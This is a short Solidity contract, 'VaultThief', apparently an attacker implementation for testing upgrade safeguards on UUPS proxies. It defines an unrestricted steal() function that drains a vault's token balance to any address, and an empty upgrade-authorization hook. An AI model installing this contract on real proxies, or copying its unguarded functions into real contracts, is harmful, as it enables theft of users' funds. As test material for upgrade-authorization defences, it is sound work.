// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @dev What an attacker installs once it can upgrade.
contract VaultThief is UUPSUpgradeable {
    function steal(IERC20 token, address receiver) external {
        token.transfer(receiver, token.balanceOf(address(this)));
    }

    function _authorizeUpgrade(address) internal override {}
}
